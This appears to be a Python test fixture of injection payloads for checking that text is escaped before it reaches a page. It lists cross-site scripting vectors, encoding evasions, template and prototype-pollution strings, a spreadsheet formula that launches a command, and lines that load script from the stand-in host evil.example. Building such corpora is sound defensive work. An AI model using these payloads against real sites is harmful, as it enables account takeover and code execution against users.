"""Texts that would run, break out of their place, or break the page, if they were taken for markup."""

_SCRIPTS = [
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "</script><script>{}</script>",
    "</ScRiPt ><script>{}</script>", "<script src=//evil.example/x.js></script>",
    "<script type=module>{}</script>", "<svg><script>{}</script></svg>", "<svg onload={}>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '<img src=x onerror="{}">',
    "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<iframe src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>", "<details open ontoggle={}>", "<video><source onerror={}>",
    "<input autofocus onfocus={}>", "<marquee onstart={}>", "<math><mi xlink:href='javascript:{}'>",
    "<object data='javascript:{}'>", "<embed src='javascript:{}'>", "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<form action='javascript:{}'><button>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x.png)'>", "<isindex onfocus={}>", "<keygen autofocus onfocus={}>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>", "<textarea></textarea><img src=x onerror={}>",
    "<title></title><img src=x onerror={}>", "<!--><img src=x onerror={}>-->", "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml version='1.0'?><script>{}</script>", "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}",
    "data:text/html,<script>{}</script>", "vbscript:{}", '"><img src=x onerror={}>', "'><img src=x onerror={}>",
    "` ${{{}}} `", "${{{}}}", "{{{{constructor.constructor('{}')()}}}}", "{{% for x in y %}}{}{{% endfor %}}",
    "\\'); {}; ('", '\\"); {}; ("', "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E", "\u2028{}\u2029", "\u202e{}\u202c",
    "\x00<script>{}</script>", "\ufeff<script>{}</script>", "＜script＞{}＜/script＞", "__proto__", "constructor",
    "toString", "=cmd|' /C calc'!A0", "\x1f{}\x1e{}\n{}",
]  # fmt: skip
CALL = "window.top.hostile=1"
PAYLOADS = [text.format(*[CALL] * 3) for text in _SCRIPTS]
